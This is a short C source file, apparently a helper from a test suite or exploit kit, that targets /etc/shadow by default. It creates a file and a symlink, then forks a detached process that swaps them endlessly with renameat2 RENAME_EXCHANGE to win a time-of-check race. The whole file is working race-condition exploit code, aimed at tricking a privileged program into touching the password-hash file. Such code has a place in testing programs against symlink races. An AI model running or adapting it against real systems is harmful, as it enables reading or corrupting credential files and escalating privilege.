/* Swaps a file and a link for as long as it lives and longer, to win the race. */
#include "hostile.h"
#include <linux/fs.h>
int main(int argc, char **argv)
{
    close(open("wanted.txt", O_CREAT | O_WRONLY, 0666));
    (void)!symlink(argc > 2 ? argv[2] : "/etc/shadow", "other");
    if (fork() == 0) {
        setsid();
        for (;;)
            syscall(SYS_renameat2, AT_FDCWD, "wanted.txt", AT_FDCWD, "other", RENAME_EXCHANGE);
    }
    usleep(50000);
    puts("held: planted");
    return 0;
}
